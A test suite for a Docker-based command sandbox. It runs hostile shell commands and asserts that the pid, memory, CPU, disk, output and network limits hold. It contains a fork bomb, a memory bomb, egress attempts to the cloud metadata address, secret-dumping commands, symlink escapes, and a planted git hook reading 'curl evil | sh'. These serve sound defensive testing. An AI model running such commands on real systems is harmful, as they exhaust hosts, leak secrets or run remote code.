// Hostile commands against the real Docker engine: each asserts the figure
// SECURITY.md asks for. Image: paladin-test:busybox (or PALADIN_SANDBOX_IMAGE).

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import Docker from 'dockerode';
import { Executor } from '../../server/src/executor';
import type { WorkspaceMode } from '../../server/src/protocol/types';
import { normaliseSettings } from '../../server/src/settings/settings';

const image = process.env.PALADIN_SANDBOX_IMAGE || 'paladin-test:busybox';
const docker = new Docker();
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'paladin-attacks-'));
const workspace = path.join(tmp, 'ws');
fs.mkdirSync(workspace);
fs.writeFileSync(path.join(workspace, 'readme.txt'), 'hello\n');

function executor(over: Record<string, unknown> = {}): Executor {
  const { settings, warnings } = normaliseSettings({
    'sandbox.image': image,
    'database.path': path.join(tmp, 'data', 'paladin.db'),
    'sandbox.timeoutSeconds': 3,
    'sandbox.memoryMiB': 64,
    'sandbox.pids': 64,
    'sandbox.tmpfsMiB': 8,
    'sandbox.snapshotMaxMiB': 8,
    'sandbox.outputBytes': 4096,
    'sandbox.historyOutputBytes': 65536,
    'sandbox.poolSize': 0,
    'sandbox.maxConcurrent': 2,
    // .ci/run runs this file again under gVisor when the engine has it.
    'sandbox.runtime': process.env.PALADIN_SANDBOX_RUNTIME || 'runc',
    ...over,
  });
  assert.deepEqual(warnings, []);
  return new Executor(settings);
}

const ex = executor();
const runsc = (process.env.PALADIN_SANDBOX_RUNTIME || 'runc') === 'runsc';
// gVisor's own memory (its kernel and a host stub per process) counts against the memory cap: 64 processes
// can pass 64 MiB there. Tests of other caps that fill the pid cap get room under runsc.
const roomy = runsc ? executor({ 'sandbox.memoryMiB': 256 }) : ex;
async function run(command: string, opts: { mode?: WorkspaceMode; timeoutSeconds?: number; onText?: (t: string) => void; e?: Executor } = {}) {
  let text = '';
  const result = await (opts.e ?? ex).run(
    { command, workspace, mode: opts.mode ?? 'ro', timeoutSeconds: opts.timeoutSeconds },
    {
      onOutput: (c) => {
        text += c.text;
        opts.onText?.(c.text);
      },
    },
  );
  return { ...result, text, stdout: result.output?.toString('utf8') ?? '' };
}

async function containersOf(runId: string) {
  return docker.listContainers({ all: true, filters: { label: [`paladin.run=${runId}`] } });
}

/** Milliseconds the host takes to start and finish a trivial process. */
function hostLatency(): number {
  const t = performance.now();
  spawnSync('true');
  return performance.now() - t;
}

before(async () => {
  await docker.getImage(image).inspect(); // fails clearly when the test image was not built
});

after(async () => {
  await ex.dispose();
  if (roomy !== ex) await roomy.dispose();
  fs.rmSync(tmp, { recursive: true, force: true });
});

describe('resources', () => {
  test('fork bomb: the pid cap holds and the host stays responsive', async () => {
    // Baseline first: the machine may be busy with other work; the bomb must not make it much worse.
    let baseline = 0;
    for (let i = 0; i < 5; i++) baseline = Math.max(baseline, hostLatency());
    let worst = 0;
    const probe = setInterval(() => (worst = Math.max(worst, hostLatency())), 200);
    // The bomb runs in a subshell; afterwards the main shell, using builtins only (no fork is
    // possible while the bomb holds every pid), reads the cgroup's peak as it rises.
    // gVisor shows no host cgroup inside and caps the run's processes in its own kernel (RLIMIT_NPROC),
    // and cgroup v1 keeps no peak: count them there, with the shell's own glob (no fork). The bomb's
    // processes come and go, so one count may catch it below the cap: sample until the cap is near,
    // or 40 times, and keep the highest.
    const inside = 'm=0; s=0; while [ $s -lt 40 ] && [ $m -lt 60 ]; do s=$((s+1)); set -- /proc/[0-9]*; [ $# -gt $m ] && m=$# && echo "count $m"; i=0; while [ $i -lt 5000 ]; do i=$((i+1)); done; done';
    const peak = `P=/sys/fs/cgroup/pids; [ -r $P/pids.peak ] || P=/sys/fs/cgroup; if [ -r $P/pids.peak ]; then m=0; s=0; while [ $s -lt 40 ] && [ $m -lt 64 ]; do s=$((s+1)); read -r n < $P/pids.peak; [ "$n" -gt $m ] && m=$n && echo "peak $m"; i=0; while [ $i -lt 2500 ]; do i=$((i+1)); done; done; else ${inside}; fi`;
    // The bomb's own "can't fork" messages are dropped, or they would hit the output cap first.
    const r = await run(`f(){ f | f & }; (f) 2>/dev/null; ${runsc ? inside : peak}`, { timeoutSeconds: 5 });
    clearInterval(probe);
    // The peak or count is printed each time it rises, so a run the timeout ends (the bomb can starve
    // the shell that reads) still tells the highest seen; the streamed text keeps what was printed.
    const read = [...r.text.matchAll(/^(peak|count) (\d+)$/gm)].pop();
    const most = Number(read?.[2]);
    // The cgroup's peak is exact; a count of /proc is a sample and may fall a little short of the cap.
    const floor = read?.[1] === 'peak' ? 60 : 50;
    if (runsc) {
      // Under gVisor's ptrace platform the bomb's churn makes gVisor itself grow host threads and
      // memory (docs/user/sandbox.md): the host-side memory cap or thread backstop may end the
      // sandbox before the command does. The cap inside must hold whenever the count was read.
      assert.ok(['exited', 'timeout', 'memory limit', 'sandbox error'].includes(r.end), `${r.end} ${r.message}`);
      if (r.end === 'exited') assert.ok(most >= 50 && most <= 64, `process count inside: ${most}; output ${r.text.slice(-200)}`);
      else assert.ok(!(most > 64), `process count inside: ${most}`);
    } else {
      assert.ok(['exited', 'timeout'].includes(r.end), r.end);
      assert.ok(most >= floor && most <= 64, `${read?.[1] ?? 'peak'} process count: ${most}; ${r.end} after ${r.durations.runMs} ms; output ${r.text.slice(-200)}`);
    }
    assert.ok(worst < Math.max(1000, 5 * baseline), `host took ${worst} ms to run a process during the bomb (${baseline} ms before)`);
    await ex.settle();
    assert.equal((await containersOf(r.runId)).length, 0);
  });

  test('pid cap: at most 64 processes start', async () => {
    // A fork under gVisor's ptrace platform also makes a host stub process: slower, so more time to reach the cap.
    const r = await run('i=0; while [ $i -lt 150 ]; do sleep 5 & i=$((i+1)); echo $i; done', { timeoutSeconds: runsc ? 20 : undefined, e: roomy });
    assert.equal(r.end, 'exited', `${r.end} ${r.message}`);
    assert.match(r.text, /can't fork|Resource temporarily unavailable/);
    const started = Number(r.stdout.trim().split('\n').filter((l) => /^\d+$/.test(l)).pop());
    assert.ok(started < 64 && started > 10, `background processes started: ${started}`);
  });

  test('memory bomb ends as "memory limit"', async () => {
    const r = await run('x=a; while true; do x="$x$x"; done');
    assert.equal(r.end, 'memory limit', `${r.end} ${r.message}`);
  });

  test('CPU spin is killed on time', async () => {
    const r = await run('while :; do :; done', { timeoutSeconds: 2 });
    const took = r.durations.runMs; // from delivering the command, container start excluded
    assert.equal(r.end, 'timeout');
    assert.ok(took >= 2000 && took < 4500, `took ${took} ms`);
  });

  test('two CPU spinners together get at most one CPU', async () => {
    const usage =
      'u(){ if [ -r /sys/fs/cgroup/cpuacct/cpuacct.usage ]; then read -r c < /sys/fs/cgroup/cpuacct/cpuacct.usage; ' +
      'else while read -r k v; do [ "$k" = usage_usec ] && c=${v}000; done < /sys/fs/cgroup/cpu.stat; fi; }';
    if (runsc) {
      // gVisor shows no cgroup inside, and its per-process CPU times count time a throttled process
      // waits: read the container's host cgroup (gVisor and the run together) from outside instead.
      const mine = `${os.hostname()}:${process.pid}:`;
      // Earlier runs' containers may still be going away: only a new one is this run's.
      const before = new Set((await docker.listContainers({ all: true, filters: { label: ['paladin.run'] } })).map((c) => c.Id));
      const running = run('(while :; do :; done) & (while :; do :; done) & sleep 8', { timeoutSeconds: 10 });
      let id: string | undefined;
      for (let i = 0; i < 200 && !id; i++) {
        id = (await docker.listContainers({ filters: { label: ['paladin.run'] } })).find((c) => !before.has(c.Id) && c.Labels['paladin.owner']?.startsWith(mine) && c.State === 'running')?.Id;
        if (!id) await new Promise((resolve) => setTimeout(resolve, 50));
      }
      assert.ok(id, 'the run\'s container was not found');
      const usageNs = async () => ((await docker.getContainer(id!).stats({ stream: false, 'one-shot': true } as { stream: false })) as { cpu_stats: { cpu_usage: { total_usage: number } } }).cpu_stats.cpu_usage.total_usage;
      await new Promise((resolve) => setTimeout(resolve, 2000));
      const [a, t0] = [await usageNs(), performance.now()];
      await new Promise((resolve) => setTimeout(resolve, 3000));
      const [b, t1] = [await usageNs(), performance.now()];
      await running;
      const perSecond = (b - a) / ((t1 - t0) * 1e6);
      assert.ok(perSecond > 0 && perSecond <= 1.1, `CPUs used by the container: ${perSecond}`);
      return;
    }
    const r = await run(`${usage}; u; a=$c; (while :; do :; done) & (while :; do :; done) & sleep 2; u; echo $((c - a))`);
    const cpuNs = Number(r.stdout.trim().split('\n').pop());
    assert.ok(cpuNs > 0 && cpuNs <= 2.2e9, `CPU time in 2 s of wall time: ${cpuNs / 1e9} s`);
  });

  test('/tmp fill stops at the tmpfs cap (8 MiB)', async () => {
    const r = await run('dd if=/dev/zero of=/tmp/fill bs=1048576 count=100 2>/dev/null; wc -c < /tmp/fill');
    const size = Number(r.stdout.trim());
    assert.ok(size > 0 && size <= 8 * 1024 * 1024, `size ${size}`);
  });

  test('workspace fill stops at the snapshot cap (8 MiB) and ro cannot write', async () => {
    const r = await run('dd if=/dev/zero of=fill bs=1048576 count=100 2>/dev/null; wc -c < fill', { mode: 'snapshot' });
    const size = Number(r.stdout.trim());
    assert.ok(size > 0 && size <= 8 * 1024 * 1024, `size ${size}`);
    const ro = await run('echo x > written.txt');
    assert.notEqual(ro.exitCode, 0);
    assert.ok(!fs.existsSync(path.join(workspace, 'written.txt')));
  });

  for (const [name, command] of [
    ['endless output', 'yes'],
    ['one endless line', 'tr "\\000" a < /dev/zero'],
  ] as const) {
    test(`${name}: capped, run killed, server memory flat`, async () => {
      global.gc?.();
      const rssBefore = process.memoryUsage().rss;
      let shown = 0;
      const r = await run(command, { onText: (t) => (shown += Buffer.byteLength(t)) });
      assert.equal(r.end, 'output limit');
      assert.equal(r.truncated, true);
      assert.ok((r.output?.length ?? 0) <= 65536, `kept ${r.output?.length}`);
      assert.ok(shown <= 4096 + 200, `viewer got ${shown} bytes`);
      assert.ok(r.text.includes('is not shown'));
      const grown = process.memoryUsage().rss - rssBefore;
      assert.ok(grown < 64 * 1024 * 1024, `server RSS grew ${grown} bytes`);
    });
  }

  test('sleep past the deadline: TERM ends it', async () => {
    const r = await run('sleep 30', { timeoutSeconds: 2 });
    const took = r.durations.runMs;
    assert.equal(r.end, 'timeout');
    assert.ok(took >= 2000 && took < 3500, `took ${took} ms`);
  });

  test("sleep past the deadline with trap '' TERM: KILL 2 s later ends it", async () => {
    const r = await run("trap '' TERM; sleep 30; echo survived", { timeoutSeconds: 2 });
    const took = r.durations.runMs;
    assert.equal(r.end, 'timeout');
    assert.ok(!r.stdout.includes('survived'));
    assert.ok(took >= 3900 && took < 6500, `took ${took} ms`);
  });

  test('background children and nohup do not outlive the run', async () => {
    const live = fs.mkdtempSync(path.join(tmp, 'live-'));
    if (fs.statSync(live).uid === 0) fs.chownSync(live, 1000, 1000); // live mode runs as the owner, or 1000 for root's folders
    const r = await ex.run(
      { command: '(sleep 1; echo late > late.txt) & nohup sh -c "sleep 1; echo late > nohup.txt" >/dev/null 2>&1 & echo now > now.txt', workspace: live, mode: 'live' },
      {},
    );
    assert.equal(r.end, 'exited');
    assert.equal(r.exitCode, 0);
    assert.ok(r.durations.runMs < 1000, `the run did not wait for its children (${r.durations.runMs} ms)`);
    await ex.settle();
    assert.equal((await containersOf(r.runId)).length, 0);
    await new Promise((resolve) => setTimeout(resolve, 1500)); // longer than the children would have slept
    assert.deepEqual(fs.readdirSync(live), ['now.txt'], 'only the foreground write happened');
  });

  test('zombies are reaped by the init process', async () => {
    const r = await run('for i in 1 2 3 4 5 6 7 8 9 10; do (sleep 0 &); done; sleep 0.5; cat /proc/[0-9]*/stat 2>/dev/null | awk \'$3=="Z"\' | wc -l');
    assert.equal(r.end, 'exited');
    assert.equal(r.stdout.trim(), '0');
  });

  test('four hostile runs at once: two run, two queue, the server stays responsive', async () => {
    let worstLag = 0;
    let last = performance.now();
    const lag = setInterval(() => {
      const now = performance.now();
      worstLag = Math.max(worstLag, now - last - 50);
      last = now;
    }, 50);
    const results = await Promise.all([1, 2, 3, 4].map(() => run('while :; do :; done', { timeoutSeconds: 2 })));
    clearInterval(lag);
    for (const r of results) assert.equal(r.end, 'timeout');
    const queued = results.map((r) => r.durations.queueMs).sort((a, b) => a - b);
    assert.ok(queued[2] >= 1500 && queued[3] >= 1500, `queue times ${queued.join(', ')}`);
    assert.ok(worstLag < 1000, `event loop lag ${worstLag} ms`);
  });
});

describe('isolation', () => {
  test('egress fails fast by every route', async () => {
    const routes = [
      'nc -w 2 169.254.169.254 80 </dev/null',
      'wget -q -T 2 -O - http://169.254.169.254/latest/meta-data/',
      'nslookup example.com',
      'wget -q -T 2 -O - http://example.com/',
      'exec 3<>/dev/tcp/169.254.169.254/80',
    ];
    for (const command of routes) {
      const r = await run(command, { timeoutSeconds: 5 });
      const took = r.durations.runMs;
      assert.equal(r.end, 'exited', command);
      assert.notEqual(r.exitCode, 0, `${command} succeeded: ${r.text}`);
      assert.ok(took < 1500, `${command} took ${took} ms to fail`);
    }
    const ifaces = await run('cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d " "');
    assert.deepEqual(ifaces.stdout.trim().split('\n'), ['lo']);
    // Opted in, the container gets an interface besides lo (no traffic is sent here).
    const opted = ex.run({ command: 'cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d " " | sort', workspace, mode: 'ro', network: true }, {});
    // gVisor is registered offline (--network=none): a run that asks for network is refused, never run.
    if (runsc) await assert.rejects(opted, /runsc, runs are offline only/);
    else assert.deepEqual((await opted).output?.toString().trim().split('\n'), ['eth0', 'lo']);
    // Positive control: the same tool works over the container's own loopback.
    const control = await run('nc -l -p 8080 -e echo reachable & sleep 0.3; nc -w 2 127.0.0.1 8080 </dev/null');
    assert.match(control.stdout, /reachable/);
  });

  test('non-root, no capabilities, no new privileges, no mount or unshare', async () => {
    const r = await run('id -u; grep CapEff /proc/self/status; grep NoNewPrivs /proc/self/status; grep CapBnd /proc/self/status');
    const lines = r.stdout.trim().split('\n').map((l) => l.replace(/\s+/g, ' '));
    // gVisor's /proc/<pid>/status has no NoNewPrivs line (the flag is in the container's spec all the
    // same); what it would guard against, a set-uid program gaining capabilities, needs a bounding
    // set, and that is empty.
    if (runsc) assert.deepEqual(lines, ['1000', 'CapEff: 0000000000000000', 'CapBnd: 0000000000000000']);
    else assert.deepEqual(lines, ['1000', 'CapEff: 0000000000000000', 'NoNewPrivs: 1', 'CapBnd: 0000000000000000']);
    const mount = await run('mkdir -p /tmp/m && mount -t tmpfs none /tmp/m');
    assert.notEqual(mount.exitCode, 0);
    const unshare = await run('unshare -r -m true || unshare -m true');
    assert.notEqual(unshare.exitCode, 0);
    const root = await run('touch /etc/x');
    assert.notEqual(root.exitCode, 0);
  });

  test('no docker socket and no secrets in the environment', async () => {
    process.env.OPENAI_API_KEY = 'sk-test-secret-never-in-sandbox';
    process.env.PALADIN_TEST_SECRET = 'hunter2-never-in-sandbox';
    const r = await run('ls -la /var/run/docker.sock /run/docker.sock 2>&1; env; cat /proc/1/environ 2>/dev/null | tr "\\000" "\\n"');
    assert.doesNotMatch(r.text, /never-in-sandbox/);
    assert.match(r.text, /No such file/);
    assert.doesNotMatch(r.text, /srw/);
  });
});

describe('snapshot apply never escapes the workspace', () => {
  test('symlinks and hard links', async () => {
    const ws = fs.mkdtempSync(path.join(tmp, 'snap-'));
    const outside = fs.mkdtempSync(path.join(tmp, 'outside-'));
    fs.writeFileSync(path.join(outside, 'secret'), 'original\n');
    fs.symlinkSync(outside, path.join(ws, 'link'));
    fs.linkSync(path.join(outside, 'secret'), path.join(ws, 'hard'));
    fs.mkdirSync(path.join(ws, 'sub'));
    fs.writeFileSync(path.join(ws, 'sub', 'f'), 'before\n');

    const r = await ex.run(
      {
        command: `rm link && mkdir link && echo pwned > link/secret; ln -s ${outside}/secret evil; ln -s ../../etc/passwd up; echo pwned > hard; echo after > sub/f; echo ok > plain.txt`,
        workspace: ws,
        mode: 'snapshot',
      },
      {},
    );
    assert.equal(r.end, 'exited');
    assert.equal(r.exitCode, 0);
    // Between the run and the apply, sub/ becomes a link out of the workspace.
    fs.renameSync(path.join(ws, 'sub'), path.join(outside, 'sub'));
    fs.symlinkSync(path.join(outside, 'sub'), path.join(ws, 'sub'));

    const result = await ex.apply(r.runId);
    const skipped = Object.fromEntries(result.skipped.map((s) => [s.path, s.reason]));
    assert.match(skipped['link/secret'], /symlink/);
    assert.match(skipped['evil'], /outside the workspace/);
    assert.match(skipped['up'], /outside the workspace/);
    assert.match(skipped['hard'], /hard links/);
    assert.match(skipped['sub/f'], /symlink/);
    assert.ok(result.applied.includes('plain.txt'));
    assert.equal(fs.readFileSync(path.join(outside, 'secret'), 'utf8'), 'original\n');
    assert.equal(fs.readFileSync(path.join(outside, 'sub', 'f'), 'utf8'), 'before\n');
    assert.ok(!fs.existsSync(path.join(ws, 'evil')));
  });

  test('writes to .git/hooks, .git/config and .vscode/ never reach the host unasked', async () => {
    const ws = fs.mkdtempSync(path.join(tmp, 'git-'));
    spawnSync('git', ['init', '-q', ws]);
    fs.writeFileSync(path.join(ws, 'app.js'), 'x\n');
    const r = await ex.run(
      {
        command: 'mkdir -p .git/hooks .vscode && echo "curl evil | sh" > .git/hooks/pre-commit && echo "[core]" > .git/config && echo "{}" > .vscode/settings.json && echo y >> app.js',
        workspace: ws,
        mode: 'snapshot',
      },
      {},
    );
    assert.equal(r.exitCode, 0);
    const sensitive = (r.changes ?? []).filter((c) => c.sensitive).map((c) => c.path).sort();
    assert.deepEqual(sensitive, ['.git/config', '.git/hooks/pre-commit', '.vscode/settings.json']);
    const result = await ex.apply(r.runId);
    assert.deepEqual(result.applied, ['app.js']);
    assert.ok(!fs.existsSync(path.join(ws, '.git', 'hooks', 'pre-commit')));
    assert.ok(!fs.existsSync(path.join(ws, '.vscode')));
    assert.doesNotMatch(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8'), /^\[core\]\n$/);
  });
});
